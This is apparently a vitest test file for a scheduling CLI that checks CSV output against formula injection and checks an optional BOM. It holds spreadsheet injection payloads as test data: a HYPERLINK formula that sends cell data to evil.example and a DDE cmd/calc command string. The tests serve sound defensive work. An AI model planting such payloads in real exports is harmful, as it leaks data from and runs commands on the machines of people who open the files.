// CSV cannot start a formula (OWASP "CSV Injection"): a text value that a spreadsheet would
// run (`=`, `+`, `-`, `@`, tab, CR) is written behind a single quote and quoted, in every
// command that writes CSV (they all write through src/output/csv.ts); numbers stay numbers;
// JSON and NDJSON keep the exact value. And --csv-bom / SCHED_CSV_BOM=1 start CSV with a BOM.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from '../../src/sandbox/library.js';
import { envelope, f, startFaultServer, type FaultServer } from '../helpers/fault-server.js';
import { runSched, spawnSched } from '../helpers/run.js';
import { renderList } from '../helpers/render.js';
import { createBufferIO } from '../helpers/buffer-io.js';
import { show } from '../../src/output/render.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const CALC = "=cmd|' /C calc'!A0";
const STARTS = [HYPERLINK, CALC, '+1+1', '-2+3+cmd', '@SUM(A1)', '\t=1', '\r=1'];

/** The first field of the second record (the first after the header). */
function firstValue(csv: string): string {
  return csv.split('\r\n')[1]!;
}

describe('csv fields (one home, every writer)', () => {
  it.each(STARTS)('text %j gets a quote in front and is quoted', async (name) => {
    const io = createBufferIO({});
    await renderList(io, [{ name }], {
      format: 'csv',
      columns: [{ key: 'name', value: (r) => r.name }],
    });
    const out = io.stdoutText();
    const field = firstValue(out.replace(/\r=1/, '\n=1'));
    expect(field.startsWith(`"'`)).toBe(true);
    expect(out).not.toMatch(/\r\n[=+\-@\t\r]/);
  });

  it('numbers from the API stay numbers; a string that looks like one is still text', async () => {
    const io = createBufferIO({});
    await renderList(io, [{ n: -15, s: '-15', list: [-1, 2], names: ['-a', 'b'] }], {
      format: 'csv',
      columns: [
        { key: 'n', value: (r) => r.n },
        { key: 's', value: (r) => r.s },
        { key: 'list', value: (r) => r.list },
        { key: 'names', value: (r) => r.names },
      ],
    });
    expect(io.stdoutText()).toBe(`n,s,list,names\r\n-15,"'-15","-1,2","'-a,b"\r\n`);
  });

  it('a value that only contains one of them later is left alone', async () => {
    const io = createBufferIO({});
    await renderList(io, [{ v: 'a=b' }, { v: 'x@y.z' }, { v: ' =1' }], {
      format: 'csv',
      columns: [{ key: 'v', value: (r) => r.v }],
    });
    expect(io.stdoutText()).toBe('v\r\na=b\r\nx@y.z\r\n =1\r\n');
  });
});

describe('every command that writes CSV, against a real server', () => {
  let sb: Sandbox;
  let api: FaultServer;
  let sbEnv: Record<string, string>;
  beforeAll(async () => {
    sb = await startSandbox({ seed: 3, retryDelaysMs: [] });
    sbEnv = { SCHED_BASE_URL: sb.baseUrl, SCHED_API_KEY: sb.apiKey };
    const res = await fetch(sb.baseUrl + '/single-use-link', {
      method: 'POST',
      headers: { 'x-api-key': sb.apiKey, 'content-type': 'application/json' },
      body: JSON.stringify({ meeting_type_uuid: '3f2a9c4e-7b1d-4e8a-9c55-1d2e3f4a5b6c' }),
    });
    const link = (await res.json()) as { url: string };
    // Anyone can book on the sandbox's public page, under any name.
    await sb.book(link.url, { name: HYPERLINK });
    api = await startFaultServer();
    const type = {
      uuid: '0b7a6f0e-1c0f-4c64-9d83-5f3b8e2f1a10',
      name: CALC,
      slug: '@slug',
      duration: 30,
    };
    api.on('GET', '/api/users/me/meeting-types', f.json(200, envelope([type])));
  });
  afterAll(async () => {
    await sb.close();
    await api.close();
  });

  it('sandbox meetings -o csv: the invitee name is text (built CLI)', async () => {
    const r = await spawnSched(['sandbox', 'meetings', '-o', 'csv'], { env: sbEnv });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(r.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
    // JSON keeps the exact value.
    const j = await spawnSched(['sandbox', 'meetings', '--json'], { env: sbEnv });
    expect(
      (JSON.parse(j.stdout) as { invitee: { full_name: string } }[])[0]!.invitee.full_name,
    ).toBe(HYPERLINK);
  });

  it('types list -o csv: name and slug are text, duration stays a number', async () => {
    const env = { SCHED_BASE_URL: api.baseUrl, SCHED_API_KEY: 'k-123456789' };
    const r = await runSched(['types', 'list', '-o', 'csv'], { env });
    expect(r.code).toBe(0);
    expect(r.stdout.split('\r\n')[1]).toBe(
      `"'=cmd|' /C calc'!A0","'@slug",30,0b7a6f0e-1c0f-4c64-9d83-5f3b8e2f1a10`,
    );
    const nd = await runSched(['types', 'list', '-o', 'ndjson'], { env });
    expect(JSON.parse(nd.stdout.trim()).name).toBe(CALC);
  });
});

describe('--csv-bom / SCHED_CSV_BOM=1', () => {
  let api: FaultServer;
  let env: Record<string, string>;
  beforeAll(async () => {
    api = await startFaultServer();
    const type = { uuid: 'u-1', name: 'Réunion 面談', slug: 'r', duration: 30 };
    api.on('GET', '/api/users/me/meeting-types', f.json(200, envelope([type])));
    env = { SCHED_BASE_URL: api.baseUrl, SCHED_API_KEY: 'k-123456789' };
  });
  afterAll(() => api.close());

  it('not by default: scripts read the CSV too', async () => {
    const r = await spawnSched(['types', 'list', '-o', 'csv'], { env });
    expect(r.stdout.startsWith('name,')).toBe(true);
  });

  it('the flag and the env var put EF BB BF first, once, and only for CSV', async () => {
    for (const [argv, extra] of [
      [['types', 'list', '-o', 'csv', '--csv-bom'], {}],
      [['types', 'list', '-o', 'csv'], { SCHED_CSV_BOM: '1' }],
    ] as const) {
      const r = await spawnSched([...argv], { env: { ...env, ...extra } });
      expect(r.code).toBe(0);
      const bytes = Buffer.from(r.stdout, 'utf8');
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(r.stdout.slice(1)).toBe('name,slug,duration,uuid\r\nRéunion 面談,r,30,u-1\r\n');
    }
    const j = await spawnSched(['types', 'list', '--json', '--csv-bom'], { env });
    expect(j.stdout.startsWith('[')).toBe(true);
  });
});

// The CSV writer writes the BOM itself, from the settings every command hands show(): so a
// format that is not CSV, or CSV's fallback to the data (no columns), never starts with one.
describe('--csv-bom in the renderer', () => {
  const columns = [{ key: 'name', value: (r: { name: string }) => r.name }];
  it.each([
    ['csv with --csv-bom: the BOM, then the header', 'csv', true, columns, '\uFEFFname\r\nx\r\n'],
    ['csv without it', 'csv', false, columns, 'name\r\nx\r\n'],
    [
      'csv without columns prints the data: JSON, no BOM',
      'csv',
      true,
      undefined,
      '[{"name":"x"}]\n',
    ],
    ['json with --csv-bom: no BOM', 'json', true, columns, '[{"name":"x"}]\n'],
    ['ndjson with --csv-bom: no BOM', 'ndjson', true, columns, '{"name":"x"}\n'],
    ['table with --csv-bom: no BOM', 'table', true, columns, 'x\n'],
  ] as const)('%s', async (_what, output, csvBom, cols, text) => {
    const io = createBufferIO();
    await show(io, { output, csvBom }, { records: [{ name: 'x' }], columns: cols });
    expect(io.stdoutText()).toBe(text);
  });
});
